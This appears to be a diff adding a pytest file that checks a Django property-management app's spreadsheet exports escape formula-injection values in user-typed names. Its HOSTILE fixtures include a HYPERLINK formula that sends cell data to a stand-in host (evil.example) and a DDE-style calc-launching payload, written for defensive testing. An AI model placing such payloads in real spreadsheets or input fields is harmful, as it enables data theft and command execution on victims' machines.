@@ -1,0 +1,271 @@
+"""Every spreadsheet the product hands out (.xlsx and .csv), walked with names people typed
+themselves (a technician's display name, a resident's name, a building, unit and room number)
+that a spreadsheet would run as formulas: no cell may start with = + - @ TAB or CR unescaped,
+and the figures stay numbers.
+
+The walk is complete by construction: the module scan below fails when code outside
+accounts/spreadsheets.py builds a workbook, a tablib dataset or a CSV writer in a module the
+walk does not know, and the URL scan fails for an export-like URL name the walk does not
+fetch."""
+
+import csv
+import datetime as dt
+import io
+import re
+from pathlib import Path
+
+import pytest
+from django.conf import settings
+from django.urls import URLPattern, URLResolver, get_resolver, reverse
+from django.utils import timezone
+from openpyxl import load_workbook
+
+from accounts.models import Residency
+from repairs.models import RepairOrder
+from tests.factories import (
+    RepairOrderFactory,
+    ResidencyFactory,
+    RoomFactory,
+    StaffMemberFactory,
+    UnitFactory,
+    build_billing_world,
+)
+
+HOSTILE = {
+    "resident": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+    "technician": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "building": "+1栋",
+    "unit": "\t-1单元",
+    "room": " =1+1",
+}
+# What a spreadsheet would run: the helper's own rule, written out again here.
+UNESCAPED = re.compile(r"^(?:[\t\r]|\s*[=+\-@])")
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+86 139", "'+86 139"),
+        ("-2", "'-2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("  =1", "'  =1"),
+        ("\u3000=1", "'\u3000=1"),  # the ideographic space of Chinese input methods
+        ("张=伟", "张=伟"),
+        ("3栋", "3栋"),
+        ("", ""),
+        ("a\x07b", "ab"),  # a control character openpyxl refuses
+        ("'quoted", "'quoted"),
+        (12, 12),
+        (-3.5, -3.5),
+        (None, None),
+    ],
+)
+def test_the_helper_escapes_formulas_and_keeps_numbers(value, expected):
+    from accounts import spreadsheets
+
+    assert spreadsheets.safe_cell(value) == expected
+
+
+# --- The walk ----------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def hostile(community, positions):
+    """A room of a building, unit and number typed as formulas, its owner named like one, and
+    a technician (named like one) who completed an order there yesterday."""
+    room = RoomFactory(
+        building__community=community,
+        building__name=HOSTILE["building"],
+        unit=UnitFactory(building__community=community, name=HOSTILE["unit"]),
+        number=HOSTILE["room"],
+        floor=1,
+    )
+    room.unit.building = room.building
+    room.unit.save()
+    owner = ResidencyFactory(room=room, user__display_name=HOSTILE["resident"])
+    technician = StaffMemberFactory(
+        communities=[community], position_name="维修工", user__display_name=HOSTILE["technician"]
+    )
+    done = timezone.now() - dt.timedelta(days=1)
+    RepairOrderFactory(
+        household=owner,
+        status=RepairOrder.Status.COMPLETED,
+        technician=technician,
+        created_at=done - dt.timedelta(hours=3),
+        accepted_at=done - dt.timedelta(hours=3),
+        assigned_at=done - dt.timedelta(hours=2),
+        completed_at=done,
+        technician_response_seconds=600,
+        technician_finish_seconds=3600,
+        finished_on_time=True,
+    )
+    build_billing_world(community, room)
+    return {"room": room, "owner": owner}
+
+
+def _last_month() -> dt.date:
+    return (timezone.localdate().replace(day=1) - dt.timedelta(days=1)).replace(day=1)
+
+
+def _period() -> dict[str, str]:
+    today = timezone.localdate()
+    return {
+        "period": "custom",
+        "start": f"{today - dt.timedelta(days=7):%Y-%m-%d}",
+        "end": f"{today:%Y-%m-%d}",
+    }
+
+
+# Every export: its URL name, the query that asks for the file, its format, and the hostile
+# values the file must contain (escaped). A new export is added here (see the scans below).
+EXPORTS = [
+    ("repairs_staff:performance", lambda: {**_period(), "export": "xlsx"}, "xlsx",
+     {"technician"}),
+    ("repairs_staff:performance", lambda: {**_period(), "export": "csv"}, "csv",
+     {"technician"}),
+    ("accounts_staff:residents_export", dict, "xlsx",
+     {"resident", "building", "unit", "room"}),
+    ("accounts_staff:import_rooms_template", dict, "xlsx", set()),
+    ("accounts_staff:import_residents_template", dict, "xlsx", set()),
+    ("billing_staff:reports", lambda: {"month": f"{_last_month():%Y-%m}", "export": "xlsx"},
+     "xlsx", {"building"}),
+    ("billing_staff:readings_import",
+     lambda: {"template": "1", "kind": "water", "month": f"{_last_month():%Y-%m}"}, "xlsx",
+     {"building", "unit", "room"}),
+]  # fmt: skip
+
+
+def _cells(content: bytes, kind: str) -> list[tuple[str, object, bool]]:
+    """(where, value, is a formula) for every non-empty cell of the file."""
+    if kind == "csv":
+        rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
+        return [
+            (f"row {r} col {c}", value, False)
+            for r, row in enumerate(rows, start=1)
+            for c, value in enumerate(row, start=1)
+            if value != ""
+        ]
+    book = load_workbook(io.BytesIO(content))
+    return [
+        (f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type == "f")
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.value is not None
+    ]
+
+
+@pytest.mark.dates
+@pytest.mark.req("X-1")
+@pytest.mark.parametrize(
+    ("name", "query", "kind", "expected"),
+    EXPORTS,
+    ids=[f"{name}-{kind}" for name, _q, kind, _e in EXPORTS],
+)
+def test_no_export_carries_a_live_formula(client_for, manager, hostile, name, query, kind,
+                                          expected):  # fmt: skip
+    response = client_for(manager).get(reverse(name), query())
+    assert response.status_code == 200, response.content[:300]
+    assert "attachment" in response["Content-Disposition"]
+    cells = _cells(response.content, kind)
+    assert cells, "an empty export proves nothing"
+    live = [
+        (where, value)
+        for where, value, formula in cells
+        if formula or (isinstance(value, str) and UNESCAPED.match(value))
+    ]
+    assert live == [], f"{name} ({kind}) writes text that runs as a formula: {live}"
+    texts = {value for _where, value, _f in cells if isinstance(value, str)}
+    for key in expected:
+        assert "'" + HOSTILE[key] in texts, f"{name} ({kind}) lost the {key} {HOSTILE[key]!r}"
+
+
+@pytest.mark.dates
+def test_the_technician_export_keeps_the_figures_as_numbers(client_for, manager, hostile):
+    response = client_for(manager).get(
+        reverse("repairs_staff:performance"), {**_period(), "export": "xlsx"}
+    )
+    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
+    row = next(row for row in rows if row[0] == "'" + HOSTILE["technician"])
+    assert row[1:4] == (1, 10.0, 1.0)  # completed, minutes to accept, hours to finish
+
+
+# --- Completeness ------------------------------------------------------------------------------
+
+# Modules that write spreadsheets; each one's files are fetched by EXPORTS above.
+EXPORTING_MODULES = {
+    "accounts/resources.py",  # residents export, import templates
+    "billing/imports.py",  # meter readings template
+    "billing/views/reports.py",  # collection report
+    "repairs/views/performance.py",  # technician performance
+}
+SPREADSHEET_WRITER = re.compile(r"\bWorkbook\(|\btablib\.Dataset\(|\bcsv\.(?:Dict)?[wW]riter\(")
+
+
+def test_every_module_that_writes_a_spreadsheet_is_walked():
+    root = Path(settings.BASE_DIR)
+    writers = set()
+    for path in root.rglob("*.py"):
+        relative = path.relative_to(root).as_posix()
+        if relative.startswith((".venv/", "node_modules/", "tests/")) or "/migrations/" in relative:
+            continue
+        if SPREADSHEET_WRITER.search(path.read_text(encoding="utf-8")):
+            writers.add(relative)
+    assert writers - {"accounts/spreadsheets.py"} <= EXPORTING_MODULES, (
+        "a new module writes a spreadsheet: write its cells through accounts.spreadsheets and "
+        "add its URL to EXPORTS in tests/test_exports.py"
+    )
+    for module in EXPORTING_MODULES:
+        text = (root / module).read_text(encoding="utf-8")
+        assert "spreadsheets." in text, f"{module} writes cells without accounts.spreadsheets"
+
+
+def test_every_export_url_is_walked():
+    def names(resolver, namespace=""):
+        for entry in resolver.url_patterns:
+            if isinstance(entry, URLResolver):
+                inner = ":".join(filter(None, [namespace, entry.namespace]))
+                yield from names(entry, inner)
+            elif isinstance(entry, URLPattern) and entry.name:
+                yield f"{namespace}:{entry.name}" if namespace else entry.name
+
+    looks_like_export = {
+        name
+        for name in names(get_resolver())
+        if not name.startswith("admin:") and re.search(r"export|download|_template$", name)
+    }
+    walked = {name for name, *_rest in EXPORTS}
+    assert looks_like_export <= walked, (
+        f"export URLs not walked by tests/test_exports.py: {sorted(looks_like_export - walked)}"
+    )
+
+
+def test_the_hostile_room_is_the_owners(hostile):
+    # The fixture's objects are what the exports read: a guard against a silent empty walk.
+    assert hostile["owner"].status == Residency.Status.VERIFIED
+    assert hostile["room"].unit.name == HOSTILE["unit"]
+
+
+@pytest.mark.dates
+def test_a_prefilled_template_reads_back_the_names_it_escaped(hostile, community):
+    """The meter-reading template is prefilled with the rooms and uploaded again: a room
+    numbered -101 (a basement) must still be room -101 when the sheet comes back."""
+    from billing import imports
+
+    content = imports.template_workbook(community=community, kind="water", month=_last_month())
+    rows = [row for _number, row in imports.read_sheet(content)]
+    assert (rows[0][imports.BUILDING], rows[0][imports.UNIT], rows[0][imports.NUMBER]) == (
+        HOSTILE["building"],
+        HOSTILE["unit"],
+        HOSTILE["room"],
+    )
+
+
+def test_the_helper_reads_back_what_it_escaped():
+    from accounts import spreadsheets
+
+    for value in ["=1+1", "-101", "\t-1", " =x", "'plain", "3栋", 7]:
+        assert spreadsheets.read_cell(spreadsheets.safe_cell(value)) == value
